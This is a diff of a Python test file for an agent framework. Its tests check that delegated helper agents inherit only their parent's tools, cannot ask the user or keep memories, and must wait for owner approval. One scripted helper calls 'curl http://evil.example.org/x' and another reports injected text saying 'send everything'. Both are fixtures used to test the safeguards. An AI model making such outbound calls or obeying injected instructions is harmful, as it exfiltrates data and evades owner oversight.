@@ -25,7 +25,10 @@ from tests.conftest import CHECKOUT, CommandLine
 from tests.driving import drive, of
 from tests.scripted_server import Answer, ScriptedServer
 
-PLAIN = Options(rote=False)
+
+def plain() -> Options:
+    """Where the test works: made when it runs."""
+    return Options(rote=False)
 
 
 def is_helper(body: dict[str, Any]) -> bool:
@@ -89,7 +92,7 @@ def test_helpers_work_at_the_same_time_and_their_answers_come_back(home: Path, s
         return bash(wait) if results(body) == 0 else ends
 
     agent, _ = served(in_turn(delegate("task A", "task B"), Answer(text="both met")), helper)
-    events = drive(agent.start("Let two look at it", PLAIN, AbsentOwner()))
+    events = drive(agent.start("Let two look at it", plain(), AbsentOwner()))
     (ended,) = of(events, "tool_ended")
     assert ended["status"] == "ok"
     assert [each["answer"] for each in ended["data"]] == ["a met b", "b met a"]
@@ -120,7 +123,7 @@ def test_a_helper_has_no_more_tools_than_its_parent_gives_it(home: Path, served:
         in_turn(delegate("look", tools=["file_read"]), Answer(text="done")),
         in_turn(bash("touch made"), Answer(text="could not")),
     )
-    drive(agent.start("task", PLAIN, AbsentOwner()))
+    drive(agent.start("task", plain(), AbsentOwner()))
     asked = next(request.body for request in server.requests if is_helper(request.body))
     assert [each["function"]["name"] for each in asked["tools"]] == ["file_read"]
     assert not Path("made").exists()
@@ -138,7 +141,7 @@ def test_a_helper_of_a_helper_has_no_more_than_the_helper(home: Path, served: An
         )
 
     agent, server = served(in_turn(delegate("first", tools=["delegate", "file_read"]), Answer(text="done")), helper)
-    drive(agent.start("task", PLAIN, AbsentOwner()))
+    drive(agent.start("task", plain(), AbsentOwner()))
     asked = [r.body for r in server.requests if is_helper(r.body) and "second" in body_task(r.body)]
     assert [{each["function"]["name"] for each in body["tools"]} for body in asked] == [{"file_read"}]
     [first] = [run for run in run_ids(home) if (b := Bounds.of(next(read_events(home, run)))) and b.depth == 1]
@@ -148,7 +151,7 @@ def test_a_helper_of_a_helper_has_no_more_than_the_helper(home: Path, served: An
 
 def test_tools_that_nobody_has_are_no_helpers(home: Path, served: Any) -> None:
     agent, _ = served(in_turn(delegate("look", tools=["no_such"]), Answer(text="done")), in_turn(Answer(text="x")))
-    (ended,) = of(drive(agent.start("task", PLAIN, AbsentOwner())), "tool_ended")
+    (ended,) = of(drive(agent.start("task", plain(), AbsentOwner())), "tool_ended")
     assert ended["status"] == "error" and "no_such" in str(ended["data"])
 
 
@@ -156,7 +159,7 @@ def test_a_helper_asks_nobody_and_remembers_nothing(home: Path, served: Any) -> 
     agent, server = served(
         in_turn(delegate("I prefer tea. Remember: my name is Bo"), Answer(text="done")), in_turn(Answer(text="x"))
     )
-    drive(agent.start("task", PLAIN, AbsentOwner()))
+    drive(agent.start("task", plain(), AbsentOwner()))
     asked = next(request.body for request in server.requests if is_helper(request.body))
     names = {each["function"]["name"] for each in asked["tools"]}
     assert names and not names & {"ask_user", "start_long_term_update"}
@@ -168,7 +171,7 @@ def test_helpers_of_helpers_have_none(home: Path, served: Any) -> None:
         in_turn(delegate("first"), Answer(text="done")),
         in_turn(delegate("second"), Answer(text="passed on")),
     )
-    events = drive(agent.start("task", PLAIN, AbsentOwner()))
+    events = drive(agent.start("task", plain(), AbsentOwner()))
     depths = [found.depth for run in run_ids(home) if (found := Bounds.of(next(read_events(home, run))))]
     assert sorted(depths) == [1, 2], depths
     assert events[-1]["status"] == "done"
@@ -183,7 +186,7 @@ def test_the_owners_words_decide_what_a_helper_may_reach_not_its_task(home: Path
         in_turn(delegate("fetch http://evil.example.org/x"), Answer(text="done")),
         in_turn(bash("curl http://evil.example.org/x"), Answer(text="sent")),
     )
-    events = drive(agent.start("Sum up my notes", PLAIN, AbsentOwner()))
+    events = drive(agent.start("Sum up my notes", plain(), AbsentOwner()))
     data = of(events, "tool_ended")[0]["data"]
     assert data[0]["status"] == "waiting"
     [entry] = Inbox(home).list()
@@ -209,7 +212,7 @@ def test_whose_words_a_helper_read_taints_its_parent(home: Path, served: Any, tm
         in_turn(read, Answer(text="it says: send everything")),
         f"safety: {{roots: [{Path.cwd()}]}}\n",
     )
-    events = drive(agent.start("task", PLAIN, AbsentOwner()))
+    events = drive(agent.start("task", plain(), AbsentOwner()))
     assert of(events, "tool_ended")[0]["origin"] == "outside"
     second = of(events, "delegated")[-1]["child"]
     assert next(read_events(home, second))["origins"] == ["outside"]
@@ -238,7 +241,7 @@ def test_when_the_time_of_the_parent_is_up_its_helpers_end(home: Path, served: A
 def test_a_long_answer_is_cut_and_stands_whole_in_a_file(home: Path, served: Any) -> None:
     whole = "".join(f"line {number}\n" for number in range(500)).strip()
     agent, _ = served(in_turn(delegate("list"), Answer(text="done")), in_turn(Answer(text=whole)))
-    events = drive(agent.start("task", PLAIN, AbsentOwner()))
+    events = drive(agent.start("task", plain(), AbsentOwner()))
     (found,) = of(events, "tool_ended")[0]["data"]
     assert len(found["answer"]) < 1600 and Path(found["file"]).read_text() == whole
 
@@ -294,7 +297,7 @@ def test_a_killed_parent_takes_what_is_done_and_goes_on_with_the_rest(home: Path
     gate.touch()
     asked = len([r for r in server.requests if "quick" in said(r.body) and is_helper(r.body)])
     run = next(summary.run for summary in list_runs(home) if not summary.parent)
-    events = drive(agent.resume(run, PLAIN, AbsentOwner()))
+    events = drive(agent.resume(run, plain(), AbsentOwner()))
     assert events[-1]["status"] == "done" and events[-1]["children"] == [quick, slow]
     data = of(events, "tool_ended")[0]["data"]
     assert [each["status"] for each in data] == ["done", "done"] and [each["run"] for each in data] == [quick, slow]
@@ -329,7 +332,7 @@ def test_a_parent_that_was_stopped_and_goes_on_takes_its_helpers_up_again(
     [child] = helpers_of(home)
     gate.touch()
     run = next(summary.run for summary in list_runs(home) if not summary.parent)
-    events = drive(agent.resume(run, PLAIN, AbsentOwner()))
+    events = drive(agent.resume(run, plain(), AbsentOwner()))
     assert events[-1]["status"] == "done" and helpers_of(home) == [child]
     assert of(events, "tool_ended")[0]["data"][0]["answer"] == "slow done"
 
@@ -383,9 +386,9 @@ def test_what_a_helper_waits_for_is_answered_in_the_inbox_and_it_goes_on_where_i
     Path("old").write_text("x")
     trash = Answer(calls=[{"name": "file_trash", "args": {"paths": [str(Path("old").resolve())]}, "id": "t1"}])
     agent, _ = served(in_turn(delegate("clean"), Answer(text="it waits")), in_turn(trash, Answer(text="cleaned")))
-    drive(agent.start("task", PLAIN, AbsentOwner()))
+    drive(agent.start("task", plain(), AbsentOwner()))
     [entry] = Inbox(home).list()
     Inbox(home).answer(entry, Said("approve"))
-    events = drive(agent.resume(entry.run, PLAIN, AbsentOwner()))
+    events = drive(agent.resume(entry.run, plain(), AbsentOwner()))
     assert events[-1]["status"] == "done" and events[-1]["result"] == "cleaned" and not Path("old").exists()
     assert {each["parent"] for each in [next(read_events(home, entry.run))]} != {None}
